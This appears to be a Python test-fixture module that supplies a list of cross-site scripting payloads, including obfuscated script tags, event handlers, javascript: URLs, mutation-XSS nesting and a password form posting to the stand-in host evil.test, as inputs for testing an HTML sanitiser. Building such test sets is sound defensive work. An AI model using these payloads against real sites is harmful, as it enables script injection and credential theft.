"""Strings that want to break in. Ours are always run; larger sets where they lie beside the project.

The larger sets are other people's work and stay outside: ../shared/data, see its README.
"""

import json
from collections.abc import Callable
from pathlib import Path

SHARED = Path(__file__).resolve().parent.parent.parent / "shared" / "data"

OURS = [
    "<script>steal()</script>",
    "<scr<script>ipt>steal()</scr</script>ipt>",
    "<img src=x onerror=steal()>",
    "<IMG SRC=x OnErRoR=steal()>",
    '<a href="javascript:steal()">click</a>',
    '<a href=" java\tscript:steal()">click</a>',
    '<a href="&#106;avascript:steal()">click</a>',
    '<a href="data:text/html,<script>steal()</script>">click</a>',
    '<a href="vbscript:steal()">click</a>',
    '<a href="//evil.test/" target=_blank onclick=steal()>click</a>',
    '<svg><a xlink:href="javascript:steal()"><text>click</text></a></svg>',
    "<svg/onload=steal()>",
    "<math><mtext></p><style><img src=x onerror=steal()></style></mtext></math>",
    "<noscript><p title='</noscript><img src=x onerror=steal()>'>",
    "<p style=\"background:url('javascript:steal()')\">styled</p>",
    "<iframe srcdoc='<script>steal()</script>'></iframe>",
    "<form action=https://evil.test><input name=password></form>",
    "<base href=https://evil.test/><link rel=stylesheet href=x><meta http-equiv=refresh content=0>",
    "<!--><img src=x onerror=steal()>-->",
    "<p id=discussion class=masthead name=vote>in disguise</p>",
    "<style>@import 'https://evil.test'</style>",
    "<table background=javascript:steal()><td>cell</td></table>",
    "https://evil.test/'onmouseover='steal()",
    'https://evil.test/"onmouseover="steal()',
    "https://evil.test/<script>steal()</script>",
    "http://evil.test/&quot;onmouseover=&quot;steal()",
    "\u202ejavascript\u202c:steal()",
    "{{ 7 * 7 }} {% include 'x' %} ${7*7} <%= 7 %>",
]


def xss_payloads() -> list[str]:
    with (SHARED / "xss" / "payloads.jsonl").open(encoding="utf-8") as lines:
        return [json.loads(line)["payload"] for line in lines]


def naughty_strings() -> list[str]:
    strings: list[str] = json.loads((SHARED / "naughty" / "blns.json").read_text())
    return strings


CORPORA: dict[str, Callable[[], list[str]]] = {
    "ours": lambda: OURS,
    "xss": xss_payloads,
    "naughty": naughty_strings,
}
